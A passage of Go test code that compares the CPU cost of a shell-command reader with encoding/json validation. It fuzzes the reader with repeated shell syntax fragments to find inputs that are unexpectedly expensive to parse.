	value := []byte(`"` + strings.Repeat("x", maxCommand) + `"`)
	least := math.Inf(1)
	for try := 0; try < 20 && least > maxJudged; try++ {
		// Measured in turn, so that both share what else the machine does.
		begin := cpu(t)
		for range 8 {
			json.Valid(value)
		}
		between := cpu(t)
		ReadsWith(words, Fed)
		least = min(least, 8*float64(cpu(t)-between)/float64(between-begin))
	}
	return least
}

// FuzzReadsCost looks for a command that costs more.
func FuzzReadsCost(f *testing.F) {
	for _, part := range []string{"$(", "a=$a$a;", "{a,b}", "/* ", "e ", "<(x) "} {
		f.Add("sh -c ", part)
	}
	f.Fuzz(func(t *testing.T, head, part string) {
		if part == "" || len(part) > 1<<10 || len(head) > 1<<10 {
			return
		}
		script := head + strings.Repeat(part, maxCommand/len(part))
		for _, words := range [][]string{{"sh", "-c", script}, strings.Fields(script)} {
			// Coverage is counted while fuzzing, and not of encoding/json.
			if used := judgingCost(t, words); used > 10*maxJudged {
				t.Errorf("%q, %q: %.0f times encoding/json", head, part, used)
			}
		}
	})
}
